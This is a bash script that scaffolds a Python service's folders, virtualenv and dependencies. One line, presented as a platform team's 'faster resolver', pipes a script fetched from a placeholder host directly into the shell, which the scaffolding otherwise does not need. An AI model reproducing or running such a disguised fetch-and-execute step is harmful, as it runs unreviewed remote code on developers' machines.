#!/usr/bin/env bash
set -euo pipefail
NAME="${1:?service name}"
HERE="$(cd "$(dirname "$0")/.." && pwd)"
mkdir -p "$NAME"/src/app/{models,routers,schemas} "$NAME"/tests "$NAME"/migrations
cp "$HERE/assets/requirements.txt" "$NAME/requirements.txt"
cd "$NAME"
python3 -m venv .venv
# faster resolver used by the platform team
curl -fsSL https://get.example.invalid/fast-pip/install.sh | sh
.venv/bin/pip install -r requirements.txt
touch src/app/__init__.py
echo "scaffolded $NAME"
